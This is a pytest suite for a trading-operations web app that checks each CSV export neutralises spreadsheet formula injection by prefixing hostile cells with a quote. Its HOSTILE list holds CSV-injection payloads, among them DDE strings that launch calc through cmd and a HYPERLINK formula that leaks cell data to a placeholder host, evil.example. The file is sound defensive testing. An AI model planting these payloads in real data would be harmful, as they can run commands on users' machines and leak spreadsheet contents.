"""Every `?format=csv` export is safe to open in a spreadsheet (OWASP CSV injection).

Walked over each export with each formula prefix: the hostile text lands in a row through the
app's own write path, and the downloaded cell starts with a quote, so Excel or LibreOffice shows
it as text instead of running it. Values typed as numbers stay numbers (a loss of -120.50 is not a formula).
"""

import csv
import io
import re

import pytest
from drf_spectacular.generators import EndpointEnumerator

from book import services as book_services
from conftest import make_user
from incidents import services as incident_services
from journal.services import journal_entry_add
from ops.checks import Outcome
from ops.services import probe_result_record
from recon.services import statement_reconcile

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


# Each writes the text through the app's write path and returns it as stored (a service may trim it).
def _position_notes(people, text) -> str:
    return book_services.position_open(
        actor=people["pam"], instrument="GOLD_MINI", direction="LONG", size=1, entry_price=71000, notes=text
    ).notes


def _incident_title(people, text) -> str:
    return incident_services.incident_declare(actor=people["ivy"], title=text, severity="P3").title


def _journal_content(people, text) -> str:
    return journal_entry_add(author=people["pam"], entry_type="note", content=text).content


def _probe_message(people, text) -> str:
    return probe_result_record(name="disk", outcome=Outcome("ok", text), latency_ms=1.5).message


def _audit_actor(people, text) -> str:
    """A user's name is the audit trail's `actor`; Django's username rules allow + - @ at the start."""
    author = make_user(text, "PM")
    journal_entry_add(author=author, entry_type="note", content="written by a strange name")
    return author.get_username()


def _break_owner(people, text) -> str:
    """Whoever brings a statement owns its breaks: a strange name reaches the breaks' `owner` column."""
    owner = make_user(text, "PM")
    content = b"instrument,direction,quantity,average_price\nGOLD_MINI,LONG,1,71000\n"
    run = statement_reconcile(actor=owner, content=content, as_of="2026-01-01T00:00:00Z")
    return run.breaks.get().owner


def _price_source(people, text) -> str:
    return book_services.prices_record(
        actor=people["feed"], prices=[{"instrument": "GOLD_MINI", "price": "71000", "source": text}]
    )[0].source


def _mtm_ran_by(people, text) -> str:
    return book_services.mtm_run(actor=make_user(text, "PM")).ran_by


EXPORTS = {
    "positions": ("/api/v1/pms/book/positions", "notes", _position_notes),
    "prices": ("/api/v1/pms/book/prices", "source", _price_source),
    "mtm runs": ("/api/v1/pms/book/mtm", "ran_by", _mtm_ran_by),
    "incidents": ("/api/v1/incidents/", "title", _incident_title),
    "journal": ("/api/v1/pms/journal", "content", _journal_content),
    "probe results": ("/api/v1/ops/probes/results", "message", _probe_message),
    "audit events": ("/api/v1/audit/events", "actor", _audit_actor),
    "reconciliation breaks": ("/api/v1/pms/recon/breaks", "owner", _break_owner),
}


def test_the_walk_covers_every_csv_export():
    """A new `?format=csv` endpoint must join EXPORTS, so the next export is tested too."""
    offered = {
        path
        for path, _, method, callback in EndpointEnumerator().get_api_endpoints()
        if method == "GET" and any(r.format == "csv" for r in getattr(callback.cls, "renderer_classes", []))
    }
    assert offered == {url for url, _, _ in EXPORTS.values()}


def download(client, url: str) -> list[dict]:
    response = client.get(url, {"format": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode(), newline="")))


@pytest.mark.parametrize("text", HOSTILE, ids=repr)
@pytest.mark.parametrize("export", EXPORTS)
def test_every_export_defuses_formulas(api, people, gold, export, text):
    url, column, write = EXPORTS[export]
    stored = write(people, text)
    assert stored.startswith(FORMULA_START)
    rows = download(api["audrey"], url)
    assert f"'{stored}" in [row[column] for row in rows]
    unsafe = [
        value
        for row in rows
        for value in row.values()
        if value.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(value)
    ]
    assert unsafe == []


def test_a_loss_stays_a_number_and_a_note_that_looks_like_one_is_text(api, people, gold):
    position = book_services.position_open(
        actor=people["pam"], instrument="GOLD_MINI", direction="LONG", size=1, entry_price="71000", notes="-120.50"
    )
    book_services.position_close(actor=people["pam"], position_id=position.pk, exit_price="70987.95")
    [row] = download(api["audrey"], "/api/v1/pms/book/positions")
    assert row["realized_pnl"] == "-120.50"
    assert row["notes"] == "'-120.50"
    assert float(row["size"]) == 1 and float(row["exit_price"]) == 70987.95
